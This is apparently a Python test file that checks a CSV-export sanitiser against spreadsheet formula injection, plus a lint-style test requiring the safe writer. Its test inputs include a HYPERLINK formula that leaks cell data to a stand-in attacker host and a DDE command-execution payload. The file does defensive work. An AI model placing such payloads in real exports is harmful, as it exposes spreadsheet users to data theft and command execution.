"""CSV exports cannot run formulas in the reader's spreadsheet."""

from __future__ import annotations

import io
import pathlib
import re

from stagedoor.core.csvsafe import neutralise, safe_writer

SRC = pathlib.Path(__file__).resolve().parents[2] / "src" / "stagedoor"


def test_cells_a_spreadsheet_would_run_get_an_apostrophe():
    cells = [
        '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
        "=cmd|' /C calc'!A0",
        "+1+2",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "-12.50",
        "+7",
        "42",
        "Alex Berg",
        "",
        "a=b",
    ]
    assert [neutralise(c) for c in cells] == [
        '\'=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
        "'=cmd|' /C calc'!A0",
        "'+1+2",
        "'-2+3",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "-12.50",
        "+7",
        "42",
        "Alex Berg",
        "",
        "a=b",
    ]
    out = io.StringIO()
    safe_writer(out, lineterminator="\n").writerows([["=1+1", "ok", 3]])
    assert out.getvalue() == "'=1+1,ok,3\n"


def test_no_module_writes_csv_without_the_safe_writer():
    # Like a lint rule: a new export must call core.csvsafe.safe_writer.
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "csvsafe.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
